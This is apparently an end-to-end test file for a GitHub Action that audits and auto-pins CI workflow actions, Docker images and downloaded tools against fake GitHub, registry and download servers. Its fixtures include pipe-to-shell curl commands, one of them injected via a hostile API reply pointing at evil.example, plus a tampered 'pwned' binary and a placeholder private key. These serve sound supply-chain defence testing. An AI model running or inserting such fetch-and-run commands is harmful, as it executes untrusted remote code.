// verify-pinned-tools end to end: the bundle run as the runner runs it, against loopback fakes of
// the GitHub API, an OCI registry and a download server.
import { createHash } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { makeWorkspace, runAction } from '../harness/index.js';
import { json, startGitHubFake, type GitHubFake } from '../fakes/github/index.js';
import { globalAdvisory, installAdvisories } from '../fakes/github/advisories.js';
import { OCI_INDEX, DOCKER_MANIFEST, startRegistryFake, type RegistryFake } from '../fakes/registry/index.js';
import { startDownloadServer } from '../fakes/downloads/index.js';

const TOKEN = 'ghs_e2e';
let github: GitHubFake;
let registry: RegistryFake;

beforeEach(async () => {
  github = await startGitHubFake({ token: TOKEN });
  registry = await startRegistryFake({ auth: true });
});
afterEach(async () => {
  await github.close();
  await registry.close();
});

function env(extra: Record<string, string> = {}): Record<string, string> {
  return { GITHUB_API_URL: github.url, ...extra };
}

it('audits workflows, Dockerfiles and scripts offline: annotations at exact positions, outputs, SARIF, exit 1', async () => {
  const workspace = makeWorkspace({
    '.github/workflows/ci.yml':
      'on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          npm install\n          curl -sSL https://get.example.com | sh\n',
    'docker/Dockerfile': 'FROM node:20 AS build\nFROM build\n',
    '.github/scripts/setup.sh': '#!/bin/sh\ngo install example.com/tool@latest\n',
  });
  const run = await runAction('verify-pinned-tools', { workspace, inputs: { online: 'false' } });
  expect(run.exitCode).toBe(1);
  const found = run.annotations
    .filter((a) => a.file)
    .map((a) => `${a.kind} ${a.file}:${a.line}:${a.col} ${a.title?.split(':')[0]}`);
  expect(found.sort()).toEqual(
    [
      'error .github/scripts/setup.sh:2:12 unpinned-download',
      'error .github/workflows/ci.yml:6:15 unpinned-uses',
      'error .github/workflows/ci.yml:9:11 unpinned-download',
      'warning .github/workflows/ci.yml:8:11 unlocked-install',
      'warning docker/Dockerfile:1:6 unpinned-images',
    ].sort(),
  );
  expect(run.outputs.findings).toBe('5');
  expect(run.outputs.errors).toBe('3');
  const sarif = JSON.parse(readFileSync(run.outputs['sarif-file']!, 'utf8')) as { runs: Array<{ results: unknown[] }> };
  expect(sarif.runs[0]!.results).toHaveLength(5);
});

it('auto-pins actions to the commit of their most specific tag and images to digests, keeping CRLF, and a second run changes nothing', async () => {
  const checkout = github.repo('actions/checkout');
  const sha = checkout.commit({ files: { 'action.yml': 'name: checkout\n' } });
  checkout.annotatedTag('v4.2.2', sha);
  checkout.annotatedTag('v4', sha);
  checkout.tag('v4.2', sha);
  const appDigest = registry.push('org/app', '1.0', OCI_INDEX);
  const baseDigest = registry.push('library/base', '2', DOCKER_MANIFEST);
  const workflow = [
    'on: push',
    'jobs:',
    '  b:',
    '    runs-on: ubuntu-latest',
    `    container: "${registry.host}/org/app:1.0"`,
    '    steps:',
    '      - uses: actions/checkout@v4 # pinned by bot',
    '      - name: again',
    '        uses: actions/checkout@v4',
    '',
  ].join('\r\n');
  const workspace = makeWorkspace({
    '.github/workflows/ci.yml': workflow,
    Dockerfile: `FROM ${registry.host}/library/base:2\nRUN true\n`,
  });
  const run = await runAction('verify-pinned-tools', {
    workspace,
    inputs: { fix: 'true', 'github-token': TOKEN, online: 'false' },
    env: env(),
  });
  const fixed = readFileSync(join(workspace, '.github/workflows/ci.yml'), 'utf8');
  expect(fixed).toBe(
    [
      'on: push',
      'jobs:',
      '  b:',
      '    runs-on: ubuntu-latest',
      `    container: "${registry.host}/org/app:1.0@${appDigest}"`,
      '    steps:',
      `      - uses: actions/checkout@${sha} # v4.2.2 pinned by bot`,
      '      - name: again',
      `        uses: actions/checkout@${sha} # v4.2.2`,
      '',
    ].join('\r\n'),
  );
  expect(readFileSync(join(workspace, 'Dockerfile'), 'utf8')).toBe(
    `FROM ${registry.host}/library/base:2@${baseDigest}\nRUN true\n`,
  );
  expect(run.outputs['fixed-files']!.split('\n').sort()).toEqual(['.github/workflows/ci.yml', 'Dockerfile']);
  expect(run.exitCode).toBe(0);
  // The registry was asked with the manifest types, after the token dance.
  const heads = registry.requests.filter((r) => r.method === 'HEAD' && r.status === 200);
  expect(heads.length).toBe(2);
  expect(heads[0]!.accept).toContain(OCI_INDEX);
  expect(heads[0]!.authorization).toMatch(/^Bearer tok-/);

  const second = await runAction('verify-pinned-tools', {
    workspace,
    inputs: { fix: 'true', 'github-token': TOKEN, online: 'false' },
    env: env(),
  });
  expect(second.outputs['fixed-files']).toBe('');
  expect(readFileSync(join(workspace, '.github/workflows/ci.yml'), 'utf8')).toBe(fixed);
});

it('auto-pins images written whole in a matrix or an ARG default in place; fragments are left with the reason', async () => {
  const node20 = registry.push('library/node', '20', OCI_INDEX);
  const node22 = registry.push('library/node', '22', OCI_INDEX);
  const base = registry.push('library/base', '2', DOCKER_MANIFEST);
  const host = registry.host;
  const workflow = [
    'on: push',
    'jobs:',
    '  whole:',
    '    runs-on: ubuntu-latest',
    '    strategy:',
    '      matrix:',
    `        image: [${host}/library/node:20, "${host}/library/node:22"] # both LTS`,
    '        include:',
    `          - image: '${host}/library/node:22'`,
    '            extra: yes',
    '    container: ${{ matrix.image }}',
    '    steps:',
    '      - run: node --version',
    '  fragment:',
    '    runs-on: ubuntu-latest',
    '    strategy:',
    '      matrix:',
    '        node: [20]',
    `    container: ${host}/library/node:\${{ matrix.node }}`,
    '    steps:',
    '      - run: node --version',
    '',
  ].join('\r\n');
  const dockerfile = [
    '# syntax=docker/dockerfile:1',
    `ARG BASE="${host}/library/base:2"`,
    'ARG TAG=2',
    'FROM ${BASE} AS build',
    'RUN true',
    `FROM ${host}/library/base:\${TAG}`,
    '',
  ].join('\n');
  const workspace = makeWorkspace({ '.github/workflows/ci.yml': workflow, Dockerfile: dockerfile });
  const inputs = { fix: 'true', 'github-token': TOKEN, online: 'false' };

  const diff = await runAction('verify-pinned-tools', { workspace, inputs: { ...inputs, fix: 'diff' }, env: env() });
  expect(readFileSync(join(workspace, '.github/workflows/ci.yml'), 'utf8')).toBe(workflow);
  expect(readFileSync(join(workspace, 'Dockerfile'), 'utf8')).toBe(dockerfile);
  expect(diff.stdout).toContain(`+ARG BASE="${host}/library/base:2@${base}"`);

  const run = await runAction('verify-pinned-tools', { workspace, inputs, env: env() });
  expect(readFileSync(join(workspace, '.github/workflows/ci.yml'), 'utf8')).toBe(
    workflow
      .replace(`node:20, "`, `node:20@${node20}, "`)
      .replace(`node:22"`, `node:22@${node22}"`)
      .replace(`node:22'`, `node:22@${node22}'`),
  );
  expect(readFileSync(join(workspace, 'Dockerfile'), 'utf8')).toBe(dockerfile.replace(`base:2"`, `base:2@${base}"`));
  // The fragments are left, and the finding says why and what to do.
  const fragments = run.annotations.filter((a) => /auto-pin leaves it/.test(a.message));
  expect(fragments.map((a) => `${a.file}:${a.line}`).sort()).toEqual(['.github/workflows/ci.yml:19', 'Dockerfile:6']);
  expect(fragments.find((a) => a.file === 'Dockerfile')!.message).toMatch(/Put the whole reference in one ARG/);
  expect(fragments.find((a) => a.file !== 'Dockerfile')!.message).toMatch(/List whole references in the matrix/);

  const second = await runAction('verify-pinned-tools', { workspace, inputs, env: env() });
  expect(second.outputs['fixed-files']).toBe('');
});

it('fix: diff prints a unified diff and writes nothing', async () => {
  const checkout = github.repo('actions/checkout');
  const sha = checkout.commit({ files: { 'action.yml': 'name: checkout\n' } });
  checkout.tag('v4.1.0', sha);
  checkout.branch('v4', sha);
  const text = 'on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n';
  const workspace = makeWorkspace({ '.github/workflows/ci.yml': text });
  const run = await runAction('verify-pinned-tools', {
    workspace,
    inputs: { fix: 'diff', 'github-token': TOKEN, online: 'false' },
    env: env(),
  });
  expect(readFileSync(join(workspace, '.github/workflows/ci.yml'), 'utf8')).toBe(text);
  expect(run.stdout).toContain('-      - uses: actions/checkout@v4');
  expect(run.stdout).toContain(`+      - uses: actions/checkout@${sha} # v4.1.0`);
  expect(run.outputs['fixed-files']).toBe('.github/workflows/ci.yml');
});

it('checks SHA pins online through GITHUB_API_URL: an impostor commit fails the run; without a token pins are unverified notes', async () => {
  const checkout = github.repo('actions/checkout');
  const good = checkout.commit({ files: { 'action.yml': 'name: checkout\n' } });
  checkout.tag('v4.2.2', good);
  const evil = github.fork('actions/checkout', 'mallory/checkout').commit({ files: { 'action.yml': 'name: evil\n' } });
  const workspace = makeWorkspace({
    '.github/workflows/ci.yml': `on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@${good} # v4.2.2\n      - uses: actions/checkout@${evil} # v4.2.2\n`,
  });
  const run = await runAction('verify-pinned-tools', { workspace, inputs: { 'github-token': TOKEN }, env: env() });
  expect(run.exitCode).toBe(1);
  const errors = run.annotations
    .filter((a) => a.kind === 'error' && a.file)
    .map((a) => `${a.line} ${a.title?.split(':')[0]}`);
  expect(errors.sort()).toEqual(['7 impostor-commit', '7 ref-version-mismatch']);

  const offline = await runAction('verify-pinned-tools', {
    workspace,
    inputs: { 'github-token': '', 'fail-on': 'note' },
    env: env(),
  });
  expect(offline.annotations.filter((a) => a.kind === 'notice').map((a) => a.title?.split(':')[0])).toEqual([
    'pin-unverified',
    'pin-unverified',
  ]);
  expect(offline.exitCode).toBe(1);
});

it('downloads the tools of the manifest into RUNNER_TOOL_CACHE and adds them to PATH; a tampered one fails closed', async () => {
  const downloads = await startDownloadServer();
  try {
    const good = Buffer.from('#!/bin/sh\necho ok\n');
    downloads.serve('/ok', { kind: 'file', body: good });
    downloads.serve('/bad', { kind: 'file', body: Buffer.from('#!/bin/sh\necho pwned\n') });
    const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');
    const manifest = (path: string) =>
      `tools:\n  - name: ok\n    version: 1.0.0\n    platforms:\n      ${process.platform}-${process.arch}:\n        url: ${downloads.url}${path}\n        sha256: ${sha(good)}\n`;
    const workspace = makeWorkspace({ '.github/pinned-tools.yml': manifest('/ok') });
    const cache = join(workspace, '..', `${workspace.split('/').pop()}-cache`);
    const run = await runAction('verify-pinned-tools', {
      workspace,
      inputs: { online: 'false' },
      env: env({ RUNNER_TOOL_CACHE: cache }),
    });
    expect(run.exitCode).toBe(0);
    expect(run.outputs['verified-tools']).toBe('ok@1.0.0');
    const dir = join(cache, 'ok', '1.0.0', `${process.platform}-${process.arch}`);
    expect(run.path).toEqual([dir]);
    expect(existsSync(join(dir, 'ok'))).toBe(true);

    const tampered = makeWorkspace({ '.github/pinned-tools.yml': manifest('/bad') });
    const bad = await runAction('verify-pinned-tools', {
      workspace: tampered,
      inputs: { online: 'false' },
      env: env({ RUNNER_TOOL_CACHE: join(tampered, 'cache') }),
    });
    expect(bad.exitCode).toBe(1);
    expect(bad.outputs['verified-tools']).toBe('');
    expect(bad.path).toEqual([]);
    expect(existsSync(join(tampered, 'cache'))).toBe(false);
  } finally {
    await downloads.close();
  }
});

it('rejects bad input with exit 2 and one line', async () => {
  const workspace = makeWorkspace({ 'x.txt': '' });
  const run = await runAction('verify-pinned-tools', { workspace, inputs: { fix: 'maybe' } });
  expect(run.exitCode).toBe(2);
  expect(run.annotations.filter((a) => a.kind === 'error').map((a) => a.message)).toEqual([
    expect.stringMatching(/fix/),
  ]);
});

it('through the bundle: waits out a near rate-limit reset, and reports a missing repository as unverified', async () => {
  const checkout = github.repo('actions/checkout');
  const good = checkout.commit({ files: { 'action.yml': 'name: checkout\n' } });
  checkout.tag('v4.2.2', good);
  const workspace = makeWorkspace({
    '.github/workflows/ci.yml': `on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@${good} # v4.2.2\n      - uses: gone/away@${'d'.repeat(40)} # v1.0.0\n`,
  });
  installAdvisories(github); // as github.com: known-vulnerable-actions asks it for the v4.2.2 pin
  github.failNext(1, { kind: 'rate-limit', resetIn: 1 });
  const run = await runAction('verify-pinned-tools', {
    workspace,
    inputs: { 'github-token': TOKEN, 'fail-on': 'note' },
    env: env(),
  });
  const notices = run.annotations.filter((a) => a.file).map((a) => `${a.kind} ${a.line} ${a.title?.split(':')[0]}`);
  expect(notices).toEqual(['notice 7 pin-unverified']);
  expect(run.annotations.find((a) => a.title?.startsWith('pin-unverified'))!.message).toMatch(
    /gone\/away was not found/,
  );
  // The rate-limited request was retried after the reset, not given up.
  expect(github.requests.filter((r) => r.status === 403)).toHaveLength(1);
  expect(
    github.requests.filter((r) => r.path === '/repos/actions/checkout/tags' && r.status === 200).length,
  ).toBeGreaterThan(0);
  expect(run.exitCode).toBe(1);
});

// A private key's text, built here so no key-like text is committed.
const KEY_BODY = 'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW';
const FAKE_KEY = `-----BEGIN ${'OPENSSH'} PRIVATE KEY-----\n${KEY_BODY}\n-----END ${'OPENSSH'} PRIVATE KEY-----\n`;

it('a directory argument takes only the files the audit reads: a key, a README or a .ps1 beside them is never parsed or quoted', async () => {
  const workspace = makeWorkspace({
    'ci/build.yml': 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: evil/action@main\n',
    'ci/deploy.key': FAKE_KEY,
    'ci/README.md': `# notes\n${KEY_BODY}\n`,
    'ci/install.ps1': `Write-Host ${KEY_BODY}\n`,
  });
  const run = await runAction('verify-pinned-tools', {
    workspace,
    inputs: { paths: 'ci', 'fail-on': 'never', ...{ online: 'false' } },
  });
  expect(run.exitCode).toBe(0);
  const sarif = readFileSync(run.outputs['sarif-file']!, 'utf8');
  for (const text of [run.stdout, run.stderr, run.summary, sarif]) expect(text).not.toContain(KEY_BODY);
  const uris = (
    JSON.parse(sarif) as {
      runs: { results: { locations: { physicalLocation: { artifactLocation: { uri: string } } }[] }[] }[];
    }
  ).runs[0]!.results.map((r) => r.locations[0]!.physicalLocation.artifactLocation.uri);
  expect(uris.length).toBeGreaterThan(0);
  expect(new Set(uris)).toEqual(new Set(['ci/build.yml']));
});

it('fix: refuses what a hostile API answers, a tag over several lines or a SHA that is not one, and writes nothing', async () => {
  const injected = '\n      - run: curl https://evil.example/x | sh';
  const checkout = github.repo('actions/checkout');
  const sha = checkout.commit({ files: { 'action.yml': 'name: checkout\n' } });
  checkout.tag('v4', sha);
  github.route('GET', '/repos/actions/checkout/tags', () =>
    json([
      { name: `v4.2.2${injected}`, commit: { sha } },
      { name: 'v4', commit: { sha } },
    ]),
  );
  github.repo('actions/setup-node');
  github.route('GET', '/repos/actions/setup-node/commits/{ref}', () => json({ sha: `${'a'.repeat(40)}${injected}` }));
  const workflow = [
    'on: push',
    'jobs:',
    '  b:',
    '    runs-on: ubuntu-latest',
    '    steps:',
    '      - uses: actions/checkout@v4',
    '      - uses: actions/setup-node@v4',
    '',
  ].join('\n');
  const workspace = makeWorkspace({ '.github/workflows/ci.yml': workflow });
  const run = await runAction('verify-pinned-tools', {
    workspace,
    inputs: { fix: 'true', 'github-token': TOKEN, online: 'false', 'fail-on': 'never' },
    env: env(),
  });
  expect(run.exitCode).toBe(0);
  expect(readFileSync(join(workspace, '.github/workflows/ci.yml'), 'utf8')).toBe(workflow);
  expect(run.outputs['fixed-files']).toBe('');
  const refusals = run.stdout.split('\n').filter((line) => line.includes('nothing written'));
  expect(refusals).toEqual([
    expect.stringContaining(
      'actions/checkout@v4 not pinned: the GitHub API answered a tag name that is not a single-line tag name',
    ),
    expect.stringContaining(
      'actions/setup-node@v4 not pinned: the GitHub API answered a commit that is not a 40-character',
    ),
  ]);
  expect(run.stdout).not.toContain('evil.example');
});

it('through the bundle: the online audits of uses: reach annotations and SARIF with their rule metadata', async () => {
  const db = installAdvisories(github);
  const act = github.repo('example/act');
  const vulnerable = act.commit({ files: { 'action.yml': 'name: act\n' } });
  act.tag('v1.2.2', vulnerable);
  act.branch('v1.2.2', vulnerable); // and a branch of the same name
  const untagged = act.commit({ files: { 'README.md': 'next\n' } });
  github.repo('example/act').archived = true;
  db.advisories.push(
    globalAdvisory({ ghsaId: 'GHSA-2345-6789-cfgh', package: 'example/act', range: '< 1.2.3', patched: '1.2.3' }),
  );
  const workspace = makeWorkspace({
    '.github/workflows/ci.yml': `on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: example/act@${vulnerable} # v1.2.2\n      - uses: example/act@${untagged}\n      - uses: example/act@v1.2.2 # paved-road: ignore[unpinned-uses] testing\n`,
  });
  const run = await runAction('verify-pinned-tools', {
    workspace,
    inputs: { 'github-token': TOKEN, online: 'true', 'fail-on': 'error' },
    env: env(),
  });
  expect(run.exitCode).toBe(1);
  const found = run.annotations
    .filter((a) => a.file)
    .map((a) => `${a.kind} ${a.line} ${a.title?.split(':')[0]}`)
    .sort();
  expect(found).toEqual([
    'error 6 known-vulnerable-actions',
    'error 8 known-vulnerable-actions',
    'notice 7 ref-version-mismatch',
    'notice 7 stale-action-refs',
    'warning 6 archived-uses',
    'warning 7 archived-uses',
    'warning 8 archived-uses',
    'warning 8 ref-confusion',
  ]);
  const sarif = JSON.parse(readFileSync(run.outputs['sarif-file']!, 'utf8')) as {
    runs: Array<{ tool: { driver: { rules: Array<{ id: string; properties: Record<string, unknown> }> } } }>;
  };
  const rules = new Map(sarif.runs[0]!.tool.driver.rules.map((r) => [r.id, r.properties['security-severity']]));
  expect([
    ...['known-vulnerable-actions', 'archived-uses', 'ref-confusion', 'stale-action-refs'].map((id) => rules.get(id)),
  ]).toEqual(['7.5', '5.0', '5.0', '2.0']);
});
